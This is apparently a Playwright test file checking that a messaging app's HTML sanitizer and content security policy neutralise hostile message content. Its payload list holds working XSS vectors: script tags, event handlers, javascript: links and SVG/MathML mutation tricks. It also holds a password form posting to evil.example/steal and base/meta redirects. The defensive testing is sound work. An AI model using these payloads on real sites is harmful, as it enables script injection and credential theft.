// Message HTML is written by other people: every known way to run, load, submit or frame something
// must arrive inert. The fixture also fails the test on any page error or dialog.
import { expect, signInDemo, test, requireChromium } from './fixtures';

requireChromium();

const PAYLOADS = [
  '<b>bold</b> <i>italic</i> <a href="https://example.com/ok">a fine link</a>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'">',
  '<a href="javascript:window.__pwned=\'link\'">click me</a>',
  '<a href="  JaVaScRiPt:alert(1)">spaced</a>',
  '<div style="background:url(javascript:alert(1)); width: expression(alert(1))">css</div>',
  '<svg><script>window.__pwned="svg"</script><a xlink:href="javascript:alert(1)"><text>svg</text></a><animate onbegin="alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://example.com"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p onclick="alert(1)" onmouseover="alert(1)" data-x="1" id="app" class="banner">handlers</p>',
  '<details open ontoggle="alert(1)"><summary>toggle</summary></details><video><source onerror="alert(1)"></video>',
  '<base href="https://evil.example/"><a href="https://example.com/last">last</a>',
];

test('hostile HTML in messages renders inert', async ({ context, popup, otherUser }) => {
  await signInDemo(popup);
  const ben = await otherUser('ben@contoso.com');
  const conversation = await ben.startConversation({ to: 'ana@contoso.com', subject: 'Payloads', message: { text: 'payloads follow', html: '<p>payloads follow</p>' } });
  for (const html of PAYLOADS) await ben.sendMessage(conversation, { text: 'payload', html });
  const row = popup.getByRole('option', { name: /Ben Osei/ }).first();
  const [chat] = await Promise.all([context.waitForEvent('page'), row.click()]);
  await expect(chat.locator('.message-in')).toHaveCount(PAYLOADS.length + 1);
  // Hover and click what a user might touch.
  await chat.getByText('handlers').hover();
  await chat.getByText('handlers').click();
  await chat.getByText('click me').click();
  await chat.getByText('toggle').click().catch(() => undefined);

  const report = await chat.evaluate(() => {
    const root = document.querySelector('[role="log"]') ?? document.body;
    const bodies = [...root.querySelectorAll('.message-html')];
    const all = bodies.flatMap((b) => [...b.querySelectorAll('*')]);
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
      tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
      attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))].sort(),
      hrefs: all.filter((e) => e.hasAttribute('href')).map((e) => e.getAttribute('href')),
      base: document.querySelector('base')?.getAttribute('href') ?? null,
      location: location.pathname,
    };
  });
  expect(report.pwned).toBeNull();
  const allowed = ['a', 'b', 'blockquote', 'br', 'code', 'div', 'em', 'i', 'li', 'ol', 'p', 'pre', 's', 'span', 'strong', 'u', 'ul'];
  for (const tag of report.tags) expect(allowed, `tag <${tag}> must not survive`).toContain(tag);
  expect(report.attributes.filter((a) => !['href', 'rel', 'target', 'title'].includes(a))).toEqual([]);
  expect(report.hrefs).toEqual(['https://example.com/ok', 'https://example.com/last']);
  expect(report.base).toBeNull();
  expect(report.location).toBe('/chat.html');
  await expect(chat.locator('.message-html b', { hasText: 'bold' })).toBeVisible();
  await expect(chat.locator('.message-html a', { hasText: 'a fine link' })).toHaveAttribute('rel', 'noopener noreferrer');
});

test('every page enforces the strict policy: inline scripts and foreign loads are blocked', async ({ context, host, pageErrors }) => {
  void pageErrors;
  for (const name of ['popup', 'chat', 'settings', 'sign-in', 'quick-reply'] as const) {
    const page = await context.newPage();
    await page.goto(host.pageUrl(name, { conversation: 'none' }));
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      // Both reports arrive once the browser has refused both: the script was refused before it ran.
      const bothReported = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => {
          violations.push(e.violatedDirective);
          if (violations.includes('img-src') && violations.includes('script-src-elem')) resolve();
        });
      });
      const script = document.createElement('script');
      script.textContent = 'window.__inline = true';
      document.head.append(script);
      const img = document.createElement('img');
      img.src = 'https://evil.example/pixel.png';
      document.body.append(img);
      await Promise.race([bothReported, new Promise((resolve) => setTimeout(resolve, 5_000))]);
      return { inline: (window as unknown as { __inline?: boolean }).__inline === true, violations: [...new Set(violations)].sort() };
    });
    expect(outcome.inline, name).toBe(false);
    expect(outcome.violations, name).toEqual(expect.arrayContaining(['img-src', 'script-src-elem']));
    await page.close();
  }
});
